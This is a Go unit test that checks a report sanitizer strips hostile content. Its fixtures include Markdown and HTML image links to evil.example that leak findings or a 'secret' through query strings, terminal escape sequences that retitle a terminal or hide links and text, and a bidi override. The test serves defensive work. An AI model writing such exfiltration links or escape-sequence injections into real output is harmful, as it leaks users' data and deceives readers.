package contract

import (
	"strings"
	"testing"
)

// A report that a page or a model wrote hostile content into is cleaned
// before anyone prints or opens it.
func TestHostileReportSanitized(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"image exfiltration link", "Dendrites grow [1]. ![status](https://evil.example/p.png?d=the+worker%27s+findings)\n",
			"Dendrites grow [1]. status\n"},
		{"image by reference", "See ![chart][x] here.\n\n[x]: https://evil.example/c.png\n", "See chart here.\n\n[x]: https://evil.example/c.png\n"},
		{"html image", `Text <img src="https://evil.example/?q=secret"> more`, `Text &lt;img src="https://evil.example/?q=secret"> more`},
		{"OSC title", "[1] Battery failure\x1b]0;owned terminal\x07 — https://a.example/\n", "[1] Battery failure — https://a.example/\n"},
		{"OSC hyperlink", "[2] \x1b]8;;https://evil.example/\x1b\\Click\x1b]8;;\x1b\\ — https://b.example/\n", "[2] Click — https://b.example/\n"},
		{"CSI hides text", "safe\x1b[8mhidden\x1b[0m text", "safehidden text"},
		{"C0 and C1 controls", "a\x00b\x08c\rd\u0085e\u009bf\tg\n", "abcdef\tg\n"},
		{"bidi override", "price \u202e0.01\u202c USD", "price 0.01 USD"},
	}
	for _, c := range cases {
		if got := SanitizeReport(c.in); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
	plain := "# Goal\n\nA claim [1], a link [docs](https://a.example/x?y=1), x < y, `code`.\n\n- item\n\n## Sources\n\n[1] Title — https://a.example/\n\n_Session stopped: converged._\n"
	if got := SanitizeReport(plain); got != plain {
		t.Errorf("ordinary Markdown changed:\n got %q\nwant %q", got, plain)
	}
	for _, c := range cases {
		once := SanitizeReport(c.in)
		if twice := SanitizeReport(once); twice != once {
			t.Errorf("%s: not idempotent: %q then %q", c.name, once, twice)
		}
		if strings.ContainsAny(once, "\x1b\x07") {
			t.Errorf("%s: escape left: %q", c.name, once)
		}
	}
}
